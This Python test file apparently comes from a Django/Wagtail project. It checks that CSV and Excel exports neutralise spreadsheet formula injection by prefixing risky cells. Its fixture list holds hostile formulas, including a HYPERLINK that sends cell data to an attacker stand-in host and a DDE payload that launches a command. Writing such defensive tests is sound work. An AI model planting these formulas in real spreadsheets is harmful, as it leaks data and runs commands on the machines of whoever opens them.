"""Exports: what somebody typed does not run in the spreadsheet program of whoever opens it."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from academy.lib.csv_cells import csv_text, safe_cell
from academy.people.models import User
from tests.factories.people import UserFactory

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH COMMERCIAL AT}1",
    "-",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_becomes_text(value: str) -> None:
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize(
    "value",
    [0, -5, 1.5, Decimal("-70.00"), None, True, "-5", "+3.5", "-1,234.50", "12%", "A=B", "", "Señor", "'=1", "a\n=b"],
)
def test_everything_else_stays_as_it_is(value: Any) -> None:
    assert safe_cell(value) is value


def test_table_is_written_with_safe_cells_and_quotes() -> None:
    text = csv_text([["Name", "=Score"], ['=1,"x"', -3], ["Ada", Decimal("1.50")]])

    assert text == 'Name,\'=Score\r\n"\'=1,""x""",-3\r\nAda,1.50\r\n'


@pytest.mark.django_db
def test_exports_of_the_cms_are_safe_in_both_formats(client: Client, admin: User) -> None:
    """The history of the site holds names of people and of things, which others have typed."""
    from wagtail.log_actions import log

    client.force_login(admin)
    hostile = UserFactory(display_name="=1+1", email="hostile@example.org")
    log(hostile, "wagtail.edit", user=hostile)
    address = reverse("wagtailadmin_reports:site_history")

    table = b"".join(client.get(address, {"export": "csv"}).streaming_content).decode()
    book = openpyxl.load_workbook(io.BytesIO(client.get(address, {"export": "xlsx"}).getvalue()))

    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
    assert "'=1+1" in cells
    assert [cell for cell in cells if cell.startswith(("=", "@"))] == []
    in_book = [cell for row in book.active.iter_rows() for cell in row]
    assert [cell.data_type for cell in in_book if cell.value == "=1+1"]
    assert {cell.data_type for cell in in_book} <= {"s", "n", "d", "inlineStr"}


def subclasses(kind: type) -> set[type]:
    return {kind, *(deeper for child in kind.__subclasses__() for deeper in subclasses(child))}


@pytest.mark.django_db
def test_no_export_of_the_cms_prepares_its_values_by_itself(client: Client, admin: User) -> None:
    client.force_login(admin)
    client.get(reverse("wagtailadmin_home"))  # so that every view is loaded

    views = subclasses(SpreadsheetExportMixin)
    own = {"preprocess_field_value", "write_csv_row", "stream_csv", "write_csv_response"}

    assert len(views) > 10
    assert [view for view in views - {SpreadsheetExportMixin} if own & set(vars(view))] == []
